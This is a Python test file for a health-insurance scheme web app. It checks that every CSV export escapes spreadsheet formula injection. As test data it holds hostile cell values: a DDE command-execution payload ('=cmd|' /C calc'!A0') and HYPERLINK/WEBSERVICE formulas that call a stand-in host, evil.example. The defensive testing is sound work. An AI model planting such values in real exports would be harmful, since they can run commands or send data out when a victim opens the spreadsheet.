"""Formula injection: names, villages, phones and collectors that a spreadsheet would run as a formula
(``=cmd|' /C calc'!A0``, ``+``, ``-``, ``@``) come out of every web CSV export neutralised (a leading quote), while
plain numbers and phone numbers stay as they are (core/tabular.safe_cell).

The exports: the arrears, about-to-lapse and struck-off lists, the receipts of a period, the indicator tables
(and the audit export, when the application has one). The application writes no XLSX.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest

from mhi.contributions.services import record_receipt, refresh_households
from mhi.members.services import enrol_household
from tests.factories import login, make_user, records
from tests.members.helpers import person
from tests.trust.helpers import everything_scheme

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9][0-9 ().-]*$")

HOSTILE_FIRST_NAMES = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3*cmd", "@SUM(A1:A9)")
HOSTILE_VILLAGE = '=HYPERLINK("http://evil.example","x")'
HOSTILE_COLLECTOR = '=WEBSERVICE("http://evil.example")'
E = date(2025, 1, 10)


@pytest.fixture
def exporting(app, client):
    """Four unpaid households headed by formula-looking names (in arrears from E, struck off on 2025-07-09),
    one receipt by a formula-looking collector; signed in as an admin. The scheme's code."""
    with records(app) as session:
        scheme = everything_scheme(session)
        for index, first in enumerate(HOSTILE_FIRST_NAMES, start=1):
            enrol_household(
                session,
                scheme,
                ref=f"H-{index}",
                product_code="BASE",
                persons=[person(first, "head", E, last="@Ndiaye")],
                village=HOSTILE_VILLAGE,
                phone="+221 76 352 37 08" if index % 2 else "-1+cmd",
            )
        refresh_households(session, scheme)  # the caller of the register's services refreshes
        session.commit()
        household = enrol_household(
            session, scheme, ref="H-PAID", product_code="BASE", persons=[person("Awa", "head", E)]
        )
        record_receipt(session, household, date=E, amount=Decimal(1300), collector=HOSTILE_COLLECTOR)
        session.commit()
        admin = make_user(session, "admin")
    login(client, admin)
    return scheme.code


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]


def _assert_safe(cells: list[str]) -> None:
    """No cell a spreadsheet would run: each starts with a harmless character or is a plain number."""
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.match(cell), f"formula cell exported: {cell!r}"


@pytest.mark.parametrize(
    ("kind", "on"), [("arrears", "2025-03-01"), ("lapsing", "2025-06-30"), ("struck-off", "2025-08-01")]
)
def test_household_lists_neutralise_formulas(exporting, client, kind, on):
    cells = _cells(client.get(f"/schemes/{exporting}/lists/{kind}?format=csv&on={on}"))
    _assert_safe(cells)
    # The hostile texts are there, each behind a quote; the phone number is left alone.
    heads = {cell for cell in cells if "@Ndiaye" in cell}
    assert heads == {f"'{first} @Ndiaye" for first in HOSTILE_FIRST_NAMES}
    assert f"'{HOSTILE_VILLAGE}" in cells
    assert "+221 76 352 37 08" in cells
    assert "'-1+cmd" in cells


def test_receipts_export_neutralises_the_collector(exporting, client):
    cells = _cells(client.get(f"/schemes/{exporting}/contributions?format=csv&from=2025-01-01&to=2025-12-31"))
    _assert_safe(cells)
    assert f"'{HOSTILE_COLLECTOR}" in cells
    assert "1300" in cells  # an amount stays a number


@pytest.mark.parametrize("table", ["indicators", "benefits", "trend"])
def test_indicator_tables_hold_no_formula(exporting, client, table):
    cells = _cells(client.get(f"/schemes/{exporting}/indicators/{table}.csv?from=2025-01-01&to=2025-12-31"))
    _assert_safe(cells)


def test_audit_export_neutralises_formulas(app, exporting, client):
    """The audit trail's export (its rows carry the enrolments' names in their JSON) is formula-safe."""
    if not any(rule.rule == "/audit/export.csv" for rule in app.url_map.iter_rules()):
        pytest.skip("the application has no audit export yet")
    cells = _cells(client.get("/audit/export.csv"))
    _assert_safe(cells)
    assert any(HOSTILE_COLLECTOR.replace('"', "") in cell.replace('\\"', "").replace('"', "") for cell in cells)
